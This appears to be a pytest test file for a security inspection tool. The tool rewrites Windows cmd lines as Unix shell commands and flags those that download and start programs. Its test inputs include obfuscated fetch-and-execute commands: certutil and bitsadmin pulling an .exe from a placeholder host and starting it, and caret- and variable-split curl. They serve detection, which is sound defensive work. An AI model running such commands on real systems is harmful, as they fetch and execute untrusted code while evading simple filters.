import pytest

from posthouse.inspection.facts import Kind
from posthouse.inspection.reading.cmd import as_shell, is_cmd
from posthouse.inspection.reading.effects import shell_facts


@pytest.mark.parametrize(
    ("text", "told"),
    [
        (
            "certutil -urlcache -f https://a.example/u.exe u.exe",
            "curl -o u.exe https://a.example/u.exe",
        ),
        (
            "cmd /c c^u^r^l https://a.example -o a.cmd ^& a.cmd",
            "curl https://a.example -o a.cmd ; a.cmd",
        ),
        ("set a=cu&& set b=rl&& %a%%b% https://a.example", "curl https://a.example"),
        ("del /q /s build", "rm -rf build"),
        ("@echo off\nrem nothing\ntype a.txt", "cat a.txt"),
        ("setx PATH C:\\x", "export PATH=C:/x"),
    ],
)
def test_a_text_in_the_words_of_a_unix_shell(text: str, told: str) -> None:
    assert as_shell(text).strip() == told


def test_what_it_downloads_and_starts_is_seen() -> None:
    text = "bitsadmin /transfer j https://a.example/u.exe %TEMP%\\u.exe & start %TEMP%\\u.exe"
    assert Kind.FETCH_RUN in {fact.kind for fact in shell_facts(text)}


def test_the_language_is_told_by_its_shape() -> None:
    assert is_cmd("reg add HKCU\\Software /v x")
    assert is_cmd("echo %PATH%")
    assert not is_cmd("echo $PATH")
